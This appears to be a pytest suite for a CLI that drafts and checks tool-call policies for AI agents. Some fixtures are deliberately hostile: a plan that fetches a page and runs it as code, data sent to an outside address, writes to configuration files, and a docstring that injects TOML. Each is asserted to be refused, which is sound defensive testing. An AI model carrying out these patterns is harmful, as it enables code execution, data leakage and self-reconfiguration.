"""`callsheet policy`: a first file for the available tools, and errors in a policy file."""

from __future__ import annotations

import tomllib
from typing import TYPE_CHECKING

import pytest
from tests.apps.test_debugger import Terminal

from callsheet.api.policies import load_policy
from callsheet.api.policy_draft import Asked, draft_of, draft_text
from callsheet.api.policy_entries import bind_policy
from callsheet.ir import ToolClass
from callsheet.policy.model import Policy
from callsheet.ports.python_tools.load import load_tools
from callsheet.ports.tools import Registry, ToolSpec

if TYPE_CHECKING:
    from tests.apps.conftest import Machine


def bound_here(machine: Machine, *files: str) -> Policy:
    registry = Registry()
    for file in files:
        for tool in load_tools(machine.folder / file):
            registry.add(tool)
    return bind_policy(load_policy("policy.toml"), registry)[0]


def test_init_writes_line_for_each_class_and_leaves_out_what_no_name_tells(with_server: Machine) -> None:
    result = with_server("policy", "init", "--tools", "tools.py")
    assert result.exit_code == 1, "one of the configured servers cannot be started"
    text = (with_server.folder / "policy.toml").read_text(encoding="utf-8")
    assert text.count("\n") <= 40
    tools = bound_here(with_server, "tools.py").tools
    assert not tools["ADD"].destructive, "its author declared that it only reads"
    assert "READ_FILE" not in tools, "the shipped policies know the built-in tools"
    assert "hall__greet" in text.partition("# Refused")[2], "nobody knows what greeting does"
    assert "in no class yet: " in result.stderr


MAIL = """
import callsheet

@callsheet.tool
def send(to: str, body: str) -> str: return to

@callsheet.tool
def send_money(whom: str, amount: int) -> str: return whom

@callsheet.tool
def post_note(board: str, text: str) -> str: return text

@callsheet.tool
def frobnicate(a: str) -> str: "Turns it."; return a

@callsheet.tool(effect="read")
def look(a: str) -> str: return a
"""


def test_classes_follow_from_declarations_and_names(machine: Machine) -> None:
    machine.write("mail.py", MAIL)
    assert machine("policy", "init", "--tools", "mail.py").exit_code == 0
    text = (machine.folder / "policy.toml").read_text(encoding="utf-8")
    assert tomllib.loads(text)["class"] == {
        "reads": ["look"],
        "sends": ["send", "post_note"],
        "pays": ["send_money"],
    }
    assert "(you declared so)\nreads" in text
    assert "(assumed)\nsends" in text
    tools = bound_here(machine, "mail.py").tools
    assert (tools["SEND"].audience_arg, tools["POST_NOTE"].audience_arg) == ("to", None)
    assert "FROBNICATE" not in tools


def test_terminal_is_asked_what_no_name_tells(machine: Machine) -> None:
    machine.write("mail.py", MAIL)

    def answer(asked: Asked) -> str | None:
        return "board" if "who is told" in asked.question else None

    registry = Registry()
    for tool in load_tools(machine.folder / "mail.py"):
        registry.add(tool)
    specs = {each.spec.name: each.spec for each in registry}
    draft = draft_of(specs, answer)
    assert draft.told == {"post_note": "board"}
    assert draft.unknown == ["frobnicate"]
    machine.write("policy.toml", draft_text(draft, "workspace", "policy.toml"))
    assert bound_here(machine, "mail.py").tools["POST_NOTE"].audience_arg == "board"


def test_every_tool_that_nobody_knows_is_named_in_the_file() -> None:
    names = [f"server__do_something_that_no_name_tells_{number}" for number in range(25)]
    draft = draft_of({}, lambda asked: None)
    draft.unknown.extend(names)
    text = draft_text(draft, "workspace", "policy.toml")
    said = " ".join(line.removeprefix("# ") for line in text.partition("# Refused")[2].splitlines())
    assert [name in said for name in names] == [True] * 20 + [False] * 5
    assert said.endswith("and 5 more")
    assert all(len(line) <= 108 for line in text.splitlines())
    assert "…" not in said


def test_questions_of_init_are_asked_at_terminal(machine: Machine) -> None:
    machine.write("mail.py", MAIL)
    terminal = Terminal(machine.folder, "policy", "init", "--tools", "mail.py")
    try:
        terminal.shows("which argument says who is told?")
        terminal.press("bo\r", "What does it do?")
        terminal.press("what\r", "one of computes")
        terminal.press("com\r", "wrote policy.toml")
        assert terminal.end() == 0
    finally:
        terminal.stop()
    text = tomllib.loads((machine.folder / "policy.toml").read_text(encoding="utf-8"))
    assert text["tools"] == {"post_note": {"audience_arg": "board"}}
    assert text["class"]["computes"] == ["frobnicate"]


def test_many_tools_become_patterns_that_match_no_other(machine: Machine) -> None:
    names = [f"get_{n}" for n in range(20)] + [f"list_{n}" for n in range(3)] + ["get_drop", "delete_all"]
    specs = {name.upper(): ToolSpec(name.upper(), name, origin="python:x") for name in names}
    draft = draft_of(specs)
    draft.assumed[ToolClass.DELETES].append("get_drop")
    draft.assumed[ToolClass.READS].remove("get_drop")
    classes = tomllib.loads(draft_text(draft, "workspace", "p"))["class"]
    assert classes["reads"] == [*names[:20], "list_*"]
    draft.assumed[ToolClass.DELETES].remove("get_drop")
    draft.assumed[ToolClass.READS].append("get_drop")
    assert tomllib.loads(draft_text(draft, "workspace", "p"))["class"]["reads"] == ["get_*", "list_*"]


def test_tool_descriptions_and_names_stay_inside_their_place(machine: Machine) -> None:
    machine.write(
        "sly.py",
        "import callsheet\n@callsheet.tool\ndef sly(a: str) -> str:\n"
        "    'Harmless.\\n[defaults]\\nunknown_tool = \"ask\"\\r\\u2028x = 1\\u200b'\n    return a\n",
    )
    assert machine("policy", "init", "--tools", "sly.py").exit_code == 0
    text = (machine.folder / "policy.toml").read_text(encoding="utf-8")
    assert "defaults" not in tomllib.loads(text)
    asked: list[str] = []

    def answer(question: Asked) -> None:
        asked.append(question.question)

    specs = {tool.spec.name: tool.spec for tool in load_tools(machine.folder / "sly.py")}
    draft_of(specs, answer)
    assert len(asked[0].splitlines()) == 1
    assert "\u200b" not in asked[0]
    assert "\\u200b" in asked[0]


def test_init_does_not_overwrite(machine: Machine) -> None:
    machine.write("policy.toml", "mine")
    result = machine("policy", "init")
    assert result.exit_code == 2
    assert "error CFG014: policy.toml already exists" in result.stderr
    assert (machine.folder / "policy.toml").read_text() == "mine"
    assert machine("policy", "init", "--force", "--base", "strict").exit_code == 0
    assert load_policy("policy.toml").implicit == "strict"


def test_init_prints_to_standard_output_and_says_what_it_lacks(machine: Machine) -> None:
    machine.write("mcp.json", '{"mcpServers": {"desk": {"command": "no-such-program"}}}')
    result = machine("policy", "init", "-o", "-", "--mcp-config", "mcp.json", "--base", "open")
    assert result.exit_code == 1
    assert tomllib.loads(result.stdout)["extends"] == "open"
    assert "# NOT IN HERE: the MCP server 'desk' cannot be started" in result.stdout
    assert "no line has are asked about" in result.stdout
    assert "error TOL010: the MCP server 'desk'" in result.stderr
    assert not (machine.folder / "policy.toml").exists()


def test_check_reports_every_error_with_position(machine: Machine) -> None:
    machine.write("p.toml", "schema = 1\n[budgets]\nmax_step = 3\nmax_calls = -1\n")
    result = machine("policy", "check", "p.toml", "strict")
    assert result.exit_code == 2
    assert "p.toml:3:1: error POL002" in result.stdout
    assert "did you mean max_steps?" in result.stdout
    assert "p.toml:4:1: error POL003" in result.stdout
    assert "strict: ok" in result.stdout
    told = machine.json("policy", "check", "p.toml")
    assert [row["code"] for row in told["diagnostics"]] == ["POL002", "POL003"]


def test_check_evaluates_predicate_of_every_rule(machine: Machine) -> None:
    rule = '[[rule]]\ntool = "@{}"\nwhen = "{}"\nthen = "refuse"\n'
    rules = rule.format("PAY", "args.n >") + rule.format("SEND", "n > 1") + rule.format("FINE", "args.n > 1")
    machine.write("p.toml", f"schema = 1\n{rules}")
    result = machine("policy", "check", "p.toml")
    assert result.exit_code == 2
    assert [line[:27] for line in result.stdout.splitlines() if "POL" in line] == [
        "p.toml:4:17: error POL003: ",
        "p.toml:8:9: error POL003: t",
    ]


def test_check_shows_each_predicate_at_its_own_rule(machine: Machine) -> None:
    rule = '[[rule]]\ntool = "@{}"\nwhen = "{}"\nthen = "refuse"\n'
    rules = rule.format("PAY", "args.n > > 1") + rule.format("SEND", "args.n > > 1")
    machine.write("p.toml", f"schema = 1\n# args.n > > 1\n{rules}" + rule.format("PUT", r"args.a == \"b\" 3"))
    result = machine("policy", "check", "p.toml")
    assert [line.partition(" ")[0] for line in result.stdout.splitlines() if "POL003" in line] == [
        "p.toml:5:18:",
        "p.toml:9:18:",
        "p.toml:13:1:",
    ]


def test_show_prints_shipped_policy(machine: Machine) -> None:
    assert tomllib.loads(machine("policy", "show", "open").stdout)["name"] == "open"
    assert machine("policy", "show", "opn").exit_code == 2


def test_plans_cannot_write_files_that_configure_later_runs(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    machine.write("ours.toml", 'schema = 1\nextends = "workspace"\n')
    machine.write("config.toml", 'policy = "ours.toml"\n')
    monkeypatch.setenv("CALLSHEET_CONFIG", str(machine.folder / "config.toml"))
    for name in ("ours.toml", "tools.py", "config.toml", ".mcp.json", ".vscode/mcp.json"):
        plan = machine.plan(f'S1: @WRITE_FILE (path="{name}", content="x") > $r', "S2: @RESPOND ($r)")
        proved = machine("verify", plan, "--policy", "ours.toml", "--tools", "tools.py")
        assert (proved.exit_code, "error POL106" in proved.stdout) == (3, True), name
        result = machine("run", plan, "--tools", "tools.py")
        assert result.exit_code == 3, name
    assert (machine.folder / "ours.toml").read_text(encoding="utf-8").startswith("schema")
    plan = machine.plan('S1: @READ_FILE (path="ours.toml") > $r', 'S2: @RESPOND ("$r")')
    assert machine("run", plan, "--tools", "tools.py").exit_code == 0
    known = 'S1: @WRITE_FILE (path="$name", content="x") > $r'
    plan = machine.plan(known, "S2: @RESPOND ($r)")
    assert machine("run", plan, "--var", "name=config.toml").exit_code == 3
    assert machine("run", plan, "--var", "name=out.txt").exit_code == 0


@pytest.mark.parametrize("command", [("run", "plan.ltp"), ("mcp",)])
def test_unknown_policy_is_reported_before_journal_is_created(
    machine: Machine, command: tuple[str, ...]
) -> None:
    machine.plan("S1: @RESPOND (1)")
    result = machine(*command, "--policy", "absent.toml")
    assert result.exit_code == 2
    assert not machine.journal.exists()


REFUSED = (
    'S1: @LOOK ("a") > $m',
    'S2: @SEND (to="eve@c.example", body=$m) > $r',
    'S3: @RESPOND ("ok")',
)


def test_refusal_ends_with_smallest_change_that_lets_the_plan_pass(machine: Machine) -> None:
    machine.write("mail.py", MAIL)
    plan = machine.plan(*REFUSED)
    for command in ("verify", "run"):
        result = machine(command, plan, "--policy", "workspace", "--tools", "mail.py")
        assert result.exit_code == 3
        *_, change, _, note, line, last = (result.stdout or result.stderr).strip().splitlines()
        assert "change the plan at S2, as the help says, or add to the policy, for every plan" in change
        assert "(then asks 1 time):" in change
        assert ("assumed from their names" in note, line.strip()) == (True, 'sends = ["send"]')
        assert "callsheet policy propose --from PLAN --policy workspace" in last
    wider = machine("policy", "propose", "--from", plan, "--policy", "workspace", "--tools", "mail.py")
    machine.write("wider.toml", wider.stdout)
    assert machine("verify", plan, "--policy", "wider.toml", "--tools", "mail.py").exit_code == 0
    said = machine("policy", "explain", "wider.toml", "--tools", "mail.py").stdout
    assert "@SEND, with private data for a stranger: refused before, asked about now" in said


def test_refusal_of_what_no_line_allows_says_so(machine: Machine) -> None:
    plan = machine.plan('S1: @FETCH_PAGE (url="https://c.example/") > $p', "S2: @EXEC_CODE (code=$p) > $o")
    result = machine("verify", plan, "--policy", "workspace")
    assert result.stdout.strip().endswith("no line of a policy allows all of it")
    proposed = machine("policy", "propose", "--from", plan, "--policy", "workspace")
    assert proposed.exit_code == 3
    assert "no line allows this: S2: untrusted data decides 'code' of @EXEC_CODE" in proposed.stderr


def test_policy_is_proposed_for_the_plan_of_a_run(machine: Machine) -> None:
    machine.write("mail.py", MAIL)
    plan = machine.plan(*REFUSED)
    assert machine("run", plan, "--tools", "mail.py", "--run-id", "r1").exit_code == 0
    found = machine.json("policy", "propose", "--from", "r1", "--policy", "workspace", "--tools", "mail.py")
    assert found["lines"] == ['[class] sends + "send"']
    assert found["refused"] == []
    without = machine("policy", "propose", "--from", "r1", "--tools", "mail.py")
    assert "missing option '--policy'" in without.stderr
